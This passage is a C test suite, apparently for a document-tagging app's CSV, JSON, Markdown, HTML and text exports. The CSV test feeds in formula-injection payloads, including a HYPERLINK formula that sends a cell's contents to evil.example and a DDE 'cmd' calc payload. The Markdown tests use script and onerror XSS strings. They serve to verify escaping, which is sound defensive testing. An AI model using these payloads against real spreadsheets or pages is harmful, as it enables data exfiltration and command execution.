      g_ptr_array_add (row, g_strdup (field->str));
      g_string_truncate (field, 0);
      if (*p == ',')
        p++;
      else if (*p == '\r')
        {
          g_assert_true (p[1] == '\n');
          p += 2;
          g_ptr_array_add (rows, row);
          row = g_ptr_array_new_with_free_func (g_free);
        }
    }
  g_assert_cmpuint (row->len, ==, 0);  /* the last row ends with CRLF too */
  g_ptr_array_unref (row);
  g_string_free (field, TRUE);
  return rows;
}

static const char *
csv_cell (GPtrArray *rows,
          guint      row,
          guint      column)
{
  GPtrArray *r = g_ptr_array_index (rows, row);

  g_assert_cmpuint (column, <, r->len);
  return g_ptr_array_index (r, column);
}

/* Quotes, titles, tag names, memos and authors that a spreadsheet would
 * run: every one comes out as text with a leading apostrophe, and that is
 * the only change (a quote that really starts with "-" included). */
static void
test_csv_formulas (void)
{
  static const char text[] =
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")\n\n"
    "+1 555 0100 is the number to call.\n\n"
    "-5 °C overnight, said the forecast.\n\n"
    "@everyone should read this.\n\n"
    "\tIndented by a tab.\n\n"
    "An ordinary line, with a comma.";
  static const char *quotes[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1 555 0100",
    "-5 °C overnight",
    "@everyone",
    "\tIndented by a tab.",
    "An ordinary line, with a comma.",
  };
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = NULL;
  g_autofree char *path = NULL;
  DossierProject *project = test_create_project ("formulas", "Formulas", &dir, &path);
  g_autoptr(GPtrArray) rows = NULL;
  g_autofree char *csv = NULL;
  gint64 doc, tag;

  g_assert_no_error (error);
  dossier_project_set_author (project, "+Author");
  doc = add_document (project, "@SUM(1+1)", NULL, NULL, text);
  tag = add_colored_tag (project, "=cmd|' -C calc'!A0", 0, NULL);
  for (guint i = 0; i < G_N_ELEMENTS (quotes); i++)
    exchange_add_highlight (project, doc, text, quotes[i], &tag, 1, i == 0 ? "-not a formula, a memo" : NULL);

  csv = export_string (project, DOSSIER_EXPORT_CSV, 0, 0, &error);
  g_assert_no_error (error);
  rows = parse_csv (csv);
  g_assert_cmpuint (rows->len, ==, 1 + G_N_ELEMENTS (quotes));

  for (guint i = 0; i < G_N_ELEMENTS (quotes); i++)
    {
      guint r = i + 1;
      g_autofree char *neutral = g_strconcat ("'", quotes[i], NULL);

      g_assert_cmpstr (csv_cell (rows, r, 0), ==, "'@SUM(1+1)");
      g_assert_cmpstr (csv_cell (rows, r, 2), ==, "'=cmd|' -C calc'!A0");
      g_assert_cmpstr (csv_cell (rows, r, 5), ==, i < 5 ? neutral : quotes[i]);
      g_assert_cmpstr (csv_cell (rows, r, 6), ==, i == 0 ? "'-not a formula, a memo" : "");
      g_assert_cmpstr (csv_cell (rows, r, 7), ==, "'+Author");
    }
  /* On the wire: always inside quotes, the apostrophe first. */
  g_assert_nonnull (strstr (csv, ",\"'-5 °C overnight\","));
  g_assert_nonnull (strstr (csv, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","));
  g_assert_nonnull (strstr (csv, ",\"An ordinary line, with a comma.\","));
  /* JSON keeps the exact quote. */
  {
    g_autofree char *json = export_string (project, DOSSIER_EXPORT_JSON, 0, 0, &error);

    g_assert_no_error (error);
    g_assert_nonnull (strstr (json, "\"quote\": \"-5 °C overnight\""));
  }

  test_finish_project (&project, &dir, &path);
}

/* Two tags whose paths read the same — "Jobs" under "Economy" and a
 * top-level code "Economy/Jobs" from a REFI-QDA import, which became
 * "Economy∕Jobs" (U+2215, as a name holds no "/") — are told apart by the
 * last column, their ids as the JSON gives them. They were two rows
 * alike but for the quote. */
static void
test_csv_same_paths (void)
{
  static const char text[] = "The yard hires forty welders.\n\nThe mill lets sixty go.";
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = NULL;
  g_autofree char *path = NULL;
  DossierProject *project = test_create_project ("same-paths", "Same paths", &dir, &path);
  g_autoptr(GPtrArray) rows = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *json = NULL;
  g_autofree char *nested_id = NULL;
  g_autofree char *flat_id = NULL;
  gint64 doc, economy, nested, flat;

  doc = add_document (project, "Jobs report", NULL, NULL, text);
  economy = add_colored_tag (project, "Economy", 0, NULL);
  nested = add_colored_tag (project, "Jobs", economy, NULL);
  flat = add_colored_tag (project, "Economy\u2215Jobs", 0, NULL);
  exchange_add_highlight (project, doc, text, "forty welders", &nested, 1, NULL);
  exchange_add_highlight (project, doc, text, "sixty go", &flat, 1, NULL);

  csv = export_string (project, DOSSIER_EXPORT_CSV, 0, 0, &error);
  g_assert_no_error (error);
  rows = parse_csv (csv);
  g_assert_cmpuint (rows->len, ==, 3);
  g_assert_cmpstr (csv_cell (rows, 0, 9), ==, "tag_id");
  nested_id = g_strdup_printf ("%" G_GINT64_FORMAT, nested);
  flat_id = g_strdup_printf ("%" G_GINT64_FORMAT, flat);
  g_assert_cmpstr (nested_id, !=, flat_id);
  for (guint r = 1; r < rows->len; r++)
    {
      const char *quote = csv_cell (rows, r, 5);

      g_assert_cmpuint (((GPtrArray *) g_ptr_array_index (rows, r))->len, ==, 10);
      if (g_str_equal (quote, "forty welders"))
        {
          g_assert_cmpstr (csv_cell (rows, r, 2), ==, "Economy/Jobs");
          g_assert_cmpstr (csv_cell (rows, r, 9), ==, nested_id);
        }
      else
        {
          g_assert_cmpstr (quote, ==, "sixty go");
          g_assert_cmpstr (csv_cell (rows, r, 2), ==, "Economy\u2215Jobs");
          g_assert_cmpstr (csv_cell (rows, r, 9), ==, flat_id);
        }
    }

  /* The same ids as the JSON's tags. */
  json = export_string (project, DOSSIER_EXPORT_JSON, 0, 0, &error);
  g_assert_no_error (error);
  {
    g_autofree char *nested_json = g_strdup_printf ("{\"id\": %s, ", nested_id);
    g_autofree char *flat_json = g_strdup_printf ("{\"id\": %s, ", flat_id);
    const char *tags = strstr (json, "\"tags\": [");
    const char *at;
    g_autofree char *nested_record = NULL;
    g_autofree char *flat_record = NULL;

    /* One record a line. */
    g_assert_nonnull (tags);
    at = strstr (tags, nested_json);
    g_assert_nonnull (at);
    nested_record = g_strndup (at, strcspn (at, "\n"));
    g_assert_nonnull (strstr (nested_record, "\"name\": \"Jobs\""));
    at = strstr (tags, flat_json);
    g_assert_nonnull (at);
    flat_record = g_strndup (at, strcspn (at, "\n"));
    g_assert_nonnull (strstr (flat_record, "\"name\": \"Economy\u2215Jobs\""));
  }

  test_finish_project (&project, &dir, &path);
}

/* ---- Summaries --------------------------------------------------------- */

static void
test_markdown (Fixture       *f,
               gconstpointer  data)
{
  g_autofree char *md = export_ok (f, DOSSIER_EXPORT_MARKDOWN, 0, 0);
  g_autofree char *position = NULL;
  const char *owners, *costs, *doc2;
  gint64 start, end;

  g_assert_true (g_str_has_prefix (md, "# Harbour “Test” \\<Project\\> \\& Co\n"));
  g_assert_nonnull (strstr (md, "## Café owners on the Quai Mérové\n"));
  g_assert_nonnull (strstr (md, "- **Author:** Jeanne Ør\n"));
  g_assert_nonnull (strstr (md, "- **Outlet:** The Quay \\<Gazette\\>\n"));
  g_assert_nonnull (strstr (md, "- **Date:** 4 March 2025\n"));

  /* Tags in codebook order, by path, with their quotes and positions. */
  owners = strstr (md, "### People/Business owners (2)\n");
  costs = strstr (md, "### Costs (3)\n");
  doc2 = strstr (md, "## Second report");
  g_assert_nonnull (owners);
  g_assert_nonnull (costs);
  g_assert_nonnull (doc2);
  g_assert_true (owners < costs && costs < doc2);

  g_assert_nonnull (strstr (md, "> Amélie Žáková, who runs the bakery 🥐 by the quay\n"));
  /* Offsets only when asked for (they are in JSON and CSV). */
  g_assert_null (strstr (md, "characters "));
  {
    DossierExportOptions options;
    DossierExportFilter filter = { f->doc1, 0 };
    g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
    g_autoptr(GError) error = NULL;
    g_autofree char *with_offsets = NULL;

    dossier_export_options_init (&options);
    options.offsets = TRUE;
    g_assert_true (dossier_export_to_stream (f->project, DOSSIER_EXPORT_MARKDOWN, &filter, &options,
                                             out, NULL, &error));
    g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, NULL));
    g_assert_true (g_output_stream_close (out, NULL, NULL));
    with_offsets = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
    text_range (doc1_text, "Amélie Žáková, who runs the bakery 🥐 by the quay", &start, &end);
    position = g_strdup_printf ("> — characters %" G_GINT64_FORMAT "–%" G_GINT64_FORMAT "\n",
                                start, end);
    g_assert_nonnull (strstr (with_offsets, position));
  }
  /* The memo as a note, its line break kept, its control character gone. */
  g_assert_nonnull (strstr (md, "**Note:** Line one,\\\nline \"two\" tab\n"));

  /* A quote spanning paragraphs stays one blockquote. */
  g_assert_nonnull (strstr (md, "and that \"nobody\" had asked the ferry crews.\n>\n> A quote\n"));

  /* Markup in a quote is escaped, not rendered. */
  g_assert_null (strstr (md, "<script>"));
  g_assert_nonnull (strstr (md, "\\<script\\>alert('x')\\</script\\>"));
  g_assert_nonnull (strstr (md, "\\<b\\>bold\\</b\\> \\& \\<img src=x onerror=alert(1)\\>"));
  for (const char *p = strchr (md, '<'); p != NULL; p = strchr (p + 1, '<'))
    g_assert_true (p > md && p[-1] == '\\');
  /* A tag without highlights has no section. */
  g_assert_null (strstr (md, "### Unused"));
}

static void
test_markdown_tag_filter (Fixture       *f,
                          gconstpointer  data)
{
  g_autofree char *md = export_ok (f, DOSSIER_EXPORT_MARKDOWN, 0, f->tag_critics);
  g_autofree char *none = NULL;
  g_autoptr(GError) error = NULL;
  const char *d1, *d2;

  g_assert_nonnull (strstr (md, "# Harbour “Test” \\<Project\\> \\& Co — People/Critics, vocal\n"));
  d1 = strstr (md, "## Café owners");
  d2 = strstr (md, "## Second report");
  g_assert_nonnull (d1);
  g_assert_nonnull (d2);
  g_assert_true (d1 < d2);
  g_assert_nonnull (strstr (d1, "### People/Critics, vocal (1)\n\n> Critics, led by 王小明"));
  g_assert_nonnull (strstr (d2, "### People/Critics, vocal (1)\n\n> Ferry crews\n"));
  /* Nothing of other tags. */
  g_assert_null (strstr (md, "### Costs"));
  g_assert_null (strstr (md, "Amélie"));

  /* A tag without highlights: no documents, a plain statement. */
  none = export_string (f->project, DOSSIER_EXPORT_MARKDOWN, 0, f->tag_unused, &error);
  g_assert_no_error (error);
  g_assert_null (strstr (none, "## "));
  g_assert_nonnull (strstr (none, "No highlights carry this tag."));
}

static void
test_text_summary (Fixture       *f,
                   gconstpointer  data)
{
  g_autofree char *txt = export_ok (f, DOSSIER_EXPORT_TEXT, f->doc1, 0);

  g_assert_true (g_str_has_prefix (txt, "Harbour “Test” <Project> & Co\n====="));
  g_assert_nonnull (strstr (txt, "Café owners on the Quai Mérové\n-----"));
  g_assert_nonnull (strstr (txt, "Author: Jeanne Ør\n"));
  g_assert_nonnull (strstr (txt, "  People/Business owners (2)\n"));
  g_assert_nonnull (strstr (txt, "    “Amélie Žáková, who runs the bakery 🥐 by the quay”\n"));
  g_assert_nonnull (strstr (txt, "    Note: Line one,\n      line \"two\"\ttab\n"));
  g_assert_null (strstr (txt, "\x01"));
  /* Only the chosen document. */
  g_assert_null (strstr (txt, "Second report"));
}

/* ---- Summary layouts ----------------------------------------------------- */

/* A small project whose summaries are compared whole: two documents, one
 * with section headings, tags under a parent, memos over two lines. */
typedef struct
{
  char           *dir;
  char           *path;
  DossierProject *project;
  gint64          doc_a;
  gint64          doc_b;
  gint64          tag_pro;
  gint64          tag_con;
  gint64          tag_costs;
} Briefing;

static const char briefing_a[] =
  "Harbour plan\n\n"
  "The vote\n\n"
  "Late on Tuesday the councillors voted 31 to 24 for the car-free bridge, after a long night.\n\n"
  "Costs\n\n"
  "The merchants say the bill may reach £210 million by 2030.";

static const char briefing_b[] =
  "Ferry report\n\n"
  "Crews said the tram would take their passengers within a year.";

/* Like add_document, with the paragraphs named in @headings as headings. */
static gint64
add_document_with_headings (DossierProject     *project,
                            const char         *title,
                            const char         *author,
                            const char         *outlet,
                            const char         *published,
                            const char         *text,
                            const char * const *headings)
{
  g_autoptr(DossierParsedDocument) doc = dossier_parsed_document_new ();
  g_autoptr(GError) error = NULL;
  const char *p = text;
  gint64 id;

  doc->title = g_strdup (title);
  doc->author = g_strdup (author);
  doc->outlet = g_strdup (outlet);
  doc->source = g_strdup ("https://news.example/harbour");
  doc->published = g_strdup (published);
  doc->format = g_strdup ("text");
  doc->original = g_bytes_new (text, strlen (text));
  doc->text = g_strdup (text);
  if (doc->blocks == NULL)
    doc->blocks = g_array_new (FALSE, FALSE, sizeof (DossierBlock));

  while (*p)
    {
      const char *q = strstr (p, "\n\n");
      g_autofree char *para = NULL;
      DossierBlock block = { 0, };

      if (q == NULL)
        q = p + strlen (p);
      para = g_strndup (p, q - p);
      block.start = g_utf8_pointer_to_offset (text, p);
      block.end = g_utf8_pointer_to_offset (text, q);
      block.kind = p == text ? DOSSIER_BLOCK_TITLE
                 : g_strv_contains (headings, para) ? DOSSIER_BLOCK_HEADING
                 : DOSSIER_BLOCK_PARAGRAPH;
      block.level = block.kind == DOSSIER_BLOCK_HEADING ? 2 : 0;
      g_array_append_val (doc->blocks, block);
      p = *q ? q + 2 : q;
    }

  id = dossier_project_add_document (project, doc, &error);
  g_assert_no_error (error);
  return id;
}

static void
briefing_set_up (Briefing      *b,
                 gconstpointer  data)
{
  const char *headings_a[] = { "The vote", "Costs", NULL };
  const char *no_headings[] = { NULL };
  gint64 arguments;

  b->project = test_create_project ("briefing", "Bridge briefing", &b->dir, &b->path);
  dossier_project_set_author (b->project, "Tester");

  b->doc_a = add_document_with_headings (b->project, "Harbour plan", "Jeanne Ør", "The Quay Gazette",
                                         "2025-03-04", briefing_a, headings_a);
  b->doc_b = add_document_with_headings (b->project, "Ferry report", NULL, "Wire",
                                         "2025-03-05", briefing_b, no_headings);

  arguments = add_colored_tag (b->project, "Arguments", 0, "#77767b");
  b->tag_pro = add_colored_tag (b->project, "Pro", arguments, "#2ec27e");
  b->tag_con = add_colored_tag (b->project, "Con", arguments, "#e01b24");
  b->tag_costs = add_colored_tag (b->project, "Costs", 0, "#f5c211");

  {
    gint64 con_costs[] = { b->tag_con, b->tag_costs };

    exchange_add_highlight (b->project, b->doc_a, briefing_a, "voted 31 to 24", &b->tag_pro, 1, "Narrow.");
    exchange_add_highlight (b->project, b->doc_a, briefing_a, "£210 million", con_costs, 2,
                            "The merchants’ figure.\nDisputed.");
    exchange_add_highlight (b->project, b->doc_b, briefing_b, "take their passengers", &b->tag_con, 1, NULL);
  }
}

static void
briefing_tear_down (Briefing      *b,
                    gconstpointer  data)
{
  test_finish_project (&b->project, &b->dir, &b->path);
}

static char *
briefing_export (Briefing                   *b,
                 DossierExportFormat         format,
                 gint64                      document_id,
                 gint64                      tag_id,
                 const DossierExportOptions *options)
{
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GError) error = NULL;
  DossierExportFilter filter = { document_id, tag_id };

  g_assert_true (dossier_export_to_stream (b->project, format, &filter, options, out, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, NULL));
  g_assert_true (g_output_stream_close (out, NULL, NULL));
  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
}

/* The defaults: by document, headings, no offsets, no context, memos as
 * notes; NULL options and initialized ones are the same. */
static void
test_summary_markdown_by_document (Briefing      *b,
                                   gconstpointer  data)
{
  DossierExportOptions options;
  g_autofree char *md = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, 0, 0, NULL);
  g_autofree char *same = NULL;

  g_assert_cmpstr (md, ==,
    "# Bridge briefing\n"
    "\n"
    "*Tagged summary, by document*\n"
    "\n"
    "## Harbour plan\n"
    "\n"
    "- **Author:** Jeanne Ør\n"
    "- **Outlet:** The Quay Gazette\n"
    "- **Date:** 4 March 2025\n"
    "- **Source:** <https://news.example/harbour>\n"
    "\n"
    "### Arguments/Pro (1)\n"
    "\n"
    "> voted 31 to 24\n"
    ">\n"
    "> — § The vote\n"
    "\n"
    "**Note:** Narrow.\n"
    "\n"
    "### Arguments/Con (1)\n"
    "\n"
    "> £210 million\n"
    ">\n"
    "> — § Costs\n"
    "\n"
    "**Note:** The merchants’ figure.\\\n"
    "Disputed.\n"
    "\n"
    "### Costs (1)\n"
    "\n"
    "> £210 million\n"
    ">\n"
    "> — § Costs\n"
    "\n"
    "**Note:** The merchants’ figure.\\\n"
    "Disputed.\n"
    "\n"
    "## Ferry report\n"
    "\n"
    "- **Outlet:** Wire\n"
    "- **Date:** 5 March 2025\n"
    "- **Source:** <https://news.example/harbour>\n"
    "\n"
    "### Arguments/Con (1)\n"
    "\n"
    "> take their passengers\n"
    "\n");

  dossier_export_options_init (&options);
  same = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, 0, 0, &options);
  g_assert_cmpstr (same, ==, md);
}

/* The stakeholders and the pros and cons, after the documents: everyone
 * and every argument in the project's summary (with or without evidence),
 * only those the document's passages are evidence for in one document's,
 * none in a tag's; each quote with its source and what the citer said;
 * the two sides of a question side by side in HTML. */
static void
test_summary_analysis (Briefing      *b,
                       gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *md = NULL;
  g_autofree char *one = NULL;
  g_autofree char *other = NULL;
  g_autofree char *html = NULL;
  g_autofree char *text = NULL;
  g_autofree char *tagged = NULL;
  const char *merchants_aliases[] = { "the merchants", NULL };
  gint64 merchants, question, pro, con, start, end;

  merchants = dossier_project_add_stakeholder (b->project, "Harbour Merchants", merchants_aliases,
                                               DOSSIER_STAKEHOLDER_BUSINESS, &error);
  g_assert_no_error (error);
  g_assert_true (dossier_project_set_stakeholder_stance_position (b->project, merchants, -2, &error));
  g_assert_true (dossier_project_set_stakeholder_stance (b->project, merchants,
                                                         "Against the plan as it stands", &error));
  g_assert_true (dossier_project_set_stakeholder_description (b->project, merchants,
                                                              "Shops on the <quay> & *harbour*", &error));
  dossier_project_add_stakeholder (b->project, "Ferry Union", NULL, DOSSIER_STAKEHOLDER_CIVIL_SOCIETY, &error);
  g_assert_no_error (error);
  text_range (briefing_a, "£210 million", &start, &end);
  g_assert_cmpint (dossier_project_add_stakeholder_evidence_range (b->project, merchants, b->doc_a, start, end,
                                                                   "Their own review", DOSSIER_EVIDENCE_STANCE,
                                                                   -2, &error), >, 0);
  g_assert_no_error (error);

  question = dossier_project_add_question (b->project, "Close the bridge to cars?", &error);
  g_assert_no_error (error);
  pro = dossier_project_add_argument (b->project, question, DOSSIER_POLARITY_PRO,
                                      "A clear majority voted for it", 0, 4, &error);
  g_assert_no_error (error);
  con = dossier_project_add_argument (b->project, question, DOSSIER_POLARITY_CON,
                                      "It may cost £46 million more", merchants, 3, &error);
  g_assert_no_error (error);
  dossier_project_add_argument (b->project, question, DOSSIER_POLARITY_CON,
                                "Ferries lose passengers", 0, 2, &error);
  g_assert_no_error (error);
  text_range (briefing_a, "voted 31 to 24", &start, &end);
  g_assert_cmpint (dossier_project_add_argument_evidence_range (b->project, pro, b->doc_a, start, end, "", &error), >, 0);
  text_range (briefing_a, "£210 million", &start, &end);
  g_assert_cmpint (dossier_project_add_argument_evidence_range (b->project, con, b->doc_a, start, end, "", &error), >, 0);
  g_assert_no_error (error);

  /* The whole project: everyone, after the documents, in the user's order. */
  md = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, 0, 0, NULL);
  g_assert_nonnull (strstr (md,
    "## Stakeholders (2)\n"
    "\n"
    "### Harbour Merchants (1)\n"
    "\n"
    "- **Kind:** Business\n"
    "- **Stance:** Strongly against — Against the plan as it stands\n"
    "- **Ratings:** power 3/5, interest 3/5\n"
    "\n"));
  /* Markup in a description is the user's text, not markup. */
  g_assert_nonnull (strstr (md, "Shops on the \\<quay\\> \\& \\*harbour\\*\n"));
  g_assert_nonnull (strstr (md, "> £210 million\n"));
  g_assert_nonnull (strstr (md, "Stance (strongly against): Their own review"));
  g_assert_nonnull (strstr (md, "### Ferry Union (0)\n"));
  g_assert_nonnull (strstr (md, "*No evidence cited.*\n"));
  g_assert_nonnull (strstr (md,
    "## Pros and Cons\n"
    "\n"
    "### Close the bridge to cars?\n"
    "\n"
    "- **Balance:** for 4, against 5 (strengths summed)\n"
    "\n"
    "#### Pros (1)\n"
    "\n"
    "##### A clear majority voted for it\n"
    "\n"
    "- **Strength:** 4 of 5\n"
    "- **Evidence:** 1 passage, from one outlet only\n"
    "\n"
    "> voted 31 to 24\n"));
  g_assert_nonnull (strstr (md,
    "#### Cons (2)\n"
    "\n"
    "##### It may cost £46 million more\n"
    "\n"
    "- **Perspective:** Harbour Merchants\n"));
  g_assert_nonnull (strstr (md,
    "##### Ferries lose passengers\n"
    "\n"
    "- **Strength:** 2 of 5\n"
    "- **Evidence:** none cited\n"));
  g_assert_true (strstr (md, "## Ferry report") < strstr (md, "## Stakeholders (2)"));
  g_assert_true (strstr (md, "## Stakeholders (2)") < strstr (md, "## Pros and Cons"));

  /* One document: those its passages are evidence for. */
  one = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, b->doc_a, 0, NULL);
  g_assert_nonnull (strstr (one, "## Stakeholders (1)\n"));
  g_assert_null (strstr (one, "Ferry Union"));
  g_assert_nonnull (strstr (one, "#### Cons (1)\n"));
  g_assert_null (strstr (one, "Ferries lose passengers"));
  other = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, b->doc_b, 0, NULL);
  g_assert_null (strstr (other, "Stakeholders"));
  g_assert_null (strstr (other, "Pros and Cons"));

  /* HTML: in the contents; the question's two sides in columns. */
  html = briefing_export (b, DOSSIER_EXPORT_HTML, 0, 0, NULL);
  g_assert_nonnull (strstr (html, "<a href=\"#stakeholders\">Stakeholders</a>"));
  g_assert_nonnull (strstr (html, "<a href=\"#pros-and-cons\">Pros and Cons</a>"));
  g_assert_nonnull (strstr (html, "<section class=\"question columns\">"));
  g_assert_nonnull (strstr (html, "<section class=\"pros\">"));
  g_assert_nonnull (strstr (html, "<section class=\"cons\">"));
  g_assert_nonnull (strstr (html, "&lt;quay&gt; &amp; *harbour*"));
  g_assert_null (strstr (html, "<quay>"));

  text = briefing_export (b, DOSSIER_EXPORT_TEXT, 0, 0, NULL);
  g_assert_nonnull (strstr (text, "Harbour Merchants"));
  g_assert_nonnull (strstr (text, "It may cost £46 million more"));

  /* A tag's summary is about that tag. */
  tagged = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, 0, b->tag_costs, NULL);
  g_assert_null (strstr (tagged, "Stakeholders"));
  g_assert_null (strstr (tagged, "Pros and Cons"));
}

/* By tag, across documents: each quote names its source; a list of
 * sources ends it. With context, the quote is in bold between its words;
 * offsets; memos as footnotes. */
static void
test_summary_markdown_by_tag (Briefing      *b,
                              gconstpointer  data)
{
  DossierExportOptions options;
  g_autofree char *md = NULL;

  dossier_export_options_init (&options);
  options.group_by = DOSSIER_EXPORT_GROUP_BY_TAG;
  options.context_words = 3;
  options.offsets = TRUE;
  options.memos = DOSSIER_EXPORT_MEMOS_FOOTNOTES;
  md = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, 0, 0, &options);

  g_assert_cmpstr (md, ==,
    "# Bridge briefing\n"
    "\n"
    "*Tagged summary, by tag*\n"
    "\n"
    "## Arguments/Pro (1)\n"
    "\n"
    "> …Tuesday the councillors **voted 31 to 24** for the car-free…[^1]\n"
    ">\n"
    "> — *Harbour plan*, The Quay Gazette, 4 March 2025 · § The vote · characters 56–70\n"
    "\n"
    "## Arguments/Con (2)\n"
    "\n"
    "> …bill may reach **£210 million** by 2030.[^2]\n"
    ">\n"
    "> — *Harbour plan*, The Quay Gazette, 4 March 2025 · § Costs · characters 161–173\n"
    "\n"
    "> …the tram would **take their passengers** within a year.\n"
    ">\n"
    "> — *Ferry report*, Wire, 5 March 2025 · characters 40–61\n"
    "\n"
    "## Costs (1)\n"
    "\n"
    "> …bill may reach **£210 million** by 2030.[^3]\n"
    ">\n"
    "> — *Harbour plan*, The Quay Gazette, 4 March 2025 · § Costs · characters 161–173\n"
    "\n"
    "## Sources\n"
    "\n"
    "### Harbour plan\n"
    "\n"
    "- **Author:** Jeanne Ør\n"
    "- **Outlet:** The Quay Gazette\n"
    "- **Date:** 4 March 2025\n"
    "- **Source:** <https://news.example/harbour>\n"
    "\n"
    "### Ferry report\n"
    "\n"
    "- **Outlet:** Wire\n"
    "- **Date:** 5 March 2025\n"
    "- **Source:** <https://news.example/harbour>\n"
    "\n"
    "[^1]: Narrow.\n"
    "[^2]: The merchants’ figure.\\\n"
    "    Disputed.\n"
    "[^3]: The merchants’ figure.\\\n"
    "    Disputed.\n"
    "\n");
}

/* Headings off, memos left out, one document grouped by tag: the
 * document is named once, in the subtitle, not under every quote. */
static void
test_summary_markdown_options (Briefing      *b,
                               gconstpointer  data)
{
  DossierExportOptions options;
  g_autofree char *md = NULL;
  g_autofree char *filtered = NULL;

  dossier_export_options_init (&options);
  options.headings = FALSE;
  options.memos = DOSSIER_EXPORT_MEMOS_NONE;
  options.group_by = DOSSIER_EXPORT_GROUP_BY_TAG;
  md = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, b->doc_a, 0, &options);
  g_assert_cmpstr (md, ==,
    "# Bridge briefing\n"
    "\n"
    "*Tagged summary of “Harbour plan”*\n"
    "\n"
    "## Arguments/Pro (1)\n"
    "\n"
    "> voted 31 to 24\n"
    "\n"
    "## Arguments/Con (1)\n"
    "\n"
    "> £210 million\n"
    "\n"
    "## Costs (1)\n"
    "\n"
    "> £210 million\n"
    "\n");

  /* A tag filter by document: only the documents that carry it. */
  dossier_export_options_init (&options);
  options.context_words = 2;
  filtered = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, 0, b->tag_pro, &options);
  g_assert_cmpstr (filtered, ==,
    "# Bridge briefing — Arguments/Pro\n"
    "\n"
    "*Tagged summary, by document*\n"
    "\n"
    "## Harbour plan\n"
    "\n"
    "- **Author:** Jeanne Ør\n"
    "- **Outlet:** The Quay Gazette\n"
    "- **Date:** 4 March 2025\n"
    "- **Source:** <https://news.example/harbour>\n"
    "\n"
    "### Arguments/Pro (1)\n"
    "\n"
    "> …the councillors **voted 31 to 24** for the…\n"
    ">\n"
    "> — § The vote\n"
    "\n"
    "**Note:** Narrow.\n"
    "\n");
}

static void
test_summary_text (Briefing      *b,
                   gconstpointer  data)
{
  DossierExportOptions options;
  g_autofree char *by_document = briefing_export (b, DOSSIER_EXPORT_TEXT, 0, 0, NULL);
  g_autofree char *by_tag = NULL;

  g_assert_cmpstr (by_document, ==,
    "Bridge briefing\n"
    "===============\n"
    "\n"
    "Tagged summary, by document\n"
    "\n"
    "Harbour plan\n"
    "------------\n"
    "\n"
    "Author: Jeanne Ør\n"
    "Outlet: The Quay Gazette\n"
    "Date: 4 March 2025\n"
    "Source: https://news.example/harbour\n"
    "\n"
    "  Arguments/Pro (1)\n"
    "\n"
    "    “voted 31 to 24”\n"
    "    § The vote\n"
    "    Note: Narrow.\n"
    "\n"
    "  Arguments/Con (1)\n"
    "\n"
    "    “£210 million”\n"
    "    § Costs\n"
    "    Note: The merchants’ figure.\n"
    "      Disputed.\n"
    "\n"
    "  Costs (1)\n"
    "\n"
    "    “£210 million”\n"
    "    § Costs\n"
    "    Note: The merchants’ figure.\n"
    "      Disputed.\n"
    "\n"
    "Ferry report\n"
    "------------\n"
    "\n"
    "Outlet: Wire\n"
    "Date: 5 March 2025\n"
    "Source: https://news.example/harbour\n"
    "\n"
    "  Arguments/Con (1)\n"
    "\n"
    "    “take their passengers”\n"
    "\n");

  dossier_export_options_init (&options);
  options.group_by = DOSSIER_EXPORT_GROUP_BY_TAG;
  options.context_words = 2;
  options.memos = DOSSIER_EXPORT_MEMOS_FOOTNOTES;
  by_tag = briefing_export (b, DOSSIER_EXPORT_TEXT, 0, b->tag_con, &options);
  g_assert_cmpstr (by_tag, ==,
    "Bridge briefing — Arguments/Con\n"
    "===============================\n"
    "\n"
    "Tagged summary, by tag\n"
    "\n"
    "Arguments/Con (2)\n"
    "-----------------\n"
    "\n"
    "  …may reach “£210 million” by 2030. [1]\n"
    "  Harbour plan, The Quay Gazette, 4 March 2025 · § Costs\n"
    "\n"
    "  …tram would “take their passengers” within a…\n"
    "  Ferry report, Wire, 5 March 2025\n"
    "\n"
    "Sources\n"
    "-------\n"
    "\n"
    "  Harbour plan\n"
    "\n"
    "  Author: Jeanne Ør\n"
    "  Outlet: The Quay Gazette\n"
    "  Date: 4 March 2025\n"
    "  Source: https://news.example/harbour\n"
    "\n"
    "  Ferry report\n"
    "\n"
    "  Outlet: Wire\n"
    "  Date: 5 March 2025\n"
    "  Source: https://news.example/harbour\n"
    "\n"
    "Notes\n"
    "-----\n"
    "\n"
    "[1] The merchants’ figure.\n"
    "    Disputed.\n"
    "\n");
}

/* The page's <body>, which holds everything but the stylesheet. */
static char *
html_body (const char *html)
{
  const char *start = strstr (html, "<body>");
  const char *end = strstr (html, "</body>");

  g_assert_nonnull (start);
  g_assert_nonnull (end);
  return g_strndup (start, end + strlen ("</body>") - start);
}

/* Context stays within the quote's paragraph (no ellipsis where it
 * reaches the edge, never the heading above), and is clamped. */
static void
test_summary_context (Briefing      *b,
                      gconstpointer  data)
{
  DossierExportOptions options;
  g_autofree char *wide = NULL;
  g_autofree char *huge = NULL;

  dossier_export_options_init (&options);
  options.context_words = 20;
  options.headings = FALSE;
  wide = briefing_export (b, DOSSIER_EXPORT_TEXT, b->doc_a, b->tag_pro, &options);
  g_assert_nonnull (strstr (wide, "\n    Late on Tuesday the councillors “voted 31 to 24” for the car-free "
                                  "bridge, after a long night.\n"));
  g_assert_null (strstr (wide, "The vote"));

  /* Out of range: clamped to the maximum, not an error. */
  options.context_words = 100000;
